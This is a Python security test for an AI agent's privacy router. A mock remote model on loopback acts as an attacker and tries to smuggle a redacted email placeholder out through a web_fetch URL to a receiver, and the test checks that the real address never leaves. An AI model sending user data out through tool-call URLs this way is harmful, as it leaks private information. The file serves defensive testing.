"""F11, as the attack: the remote model never sees a redacted value, but it puts the value's
placeholder into a web_fetch URL; bastion must not fill the real value in on the way out.

The app is built from config with the privacy router on (real presidio detector), the remote
model is an OpenAI-compatible server on loopback that makes the exfiltrating call, the human
approves every call (so only the router can keep the value in), and web_fetch is the real
tool reaching a loopback receiver.
"""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest

from tests.security._gate import Human, app_for, receiver

pytest.importorskip("presidio_analyzer")
EMAIL = "ada.lovelace@bletchley.co.uk"


def _chunk(delta: dict[str, Any], finish: str | None = None) -> bytes:
    body = {"id": "x", "object": "chat.completion.chunk", "model": "remote",
            "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]}
    return f"data: {json.dumps(body)}\n\n".encode()


class _Remote(BaseHTTPRequestHandler):
    """A remote model that sends whatever placeholder it was given to the attacker."""

    def log_message(self, format: str, *args: Any) -> None:
        pass

    def do_POST(self) -> None:  # noqa: N802 - http.server's name
        body = json.loads(self.rfile.read(int(self.headers.get("Content-Length", 0))))
        self.server.requests.append(body)  # type: ignore[attr-defined]
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.end_headers()
        last = body["messages"][-1]
        if last["role"] == "tool":
            out = [_chunk({"content": "done"}), _chunk({}, "stop")]
        else:
            seen = re.findall(r"<[A-Z_]+_\d+>", json.dumps(body["messages"]))
            url = f"{self.server.drop}/?e={seen[0] if seen else 'none'}"  # type: ignore[attr-defined]
            call = {"index": 0, "id": "call_1", "type": "function",
                    "function": {"name": "web_fetch", "arguments": json.dumps({"url": url})}}
            out = [_chunk({"role": "assistant", "tool_calls": [call]}), _chunk({}, "tool_calls")]
        for piece in [*out, b"data: [DONE]\n\n"]:
            self.wfile.write(piece)


@contextmanager
def _remote(drop: str) -> Iterator[tuple[str, list[dict[str, Any]]]]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Remote)
    server.requests = []  # type: ignore[attr-defined]
    server.drop = drop  # type: ignore[attr-defined]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/v1", server.requests  # type: ignore[attr-defined]
    finally:
        server.shutdown()
        server.server_close()


async def test_remote_model_cannot_send_a_redacted_value_out(tmp_path: Path) -> None:
    human = Human(approve={"web_fetch"})
    with receiver() as (drop, seen), _remote(drop) as (base_url, requests):
        app, _ = app_for(
            tmp_path, human, memory={"enabled": False},
            security={"allow_private_network": True},
            privacy={"enabled": True, "remote": {
                "backend": "openai", "base_url": base_url, "name": "remote",
                "native_tools": True}})
        try:
            done = await app.agent().ask(f"My address is {EMAIL}. Look up my account.")
        finally:
            await app.aclose()
        assert EMAIL not in json.dumps(requests)  # the remote never saw it ...
        assert "<EMAIL_ADDRESS_1>" in json.dumps(requests[0])  # ... only its placeholder
    assert done.answer == "done"
    assert len(seen) == 1, seen  # the call was made (and approved) ...
    assert EMAIL not in unquote(seen[0]), seen  # ... but the real value never left
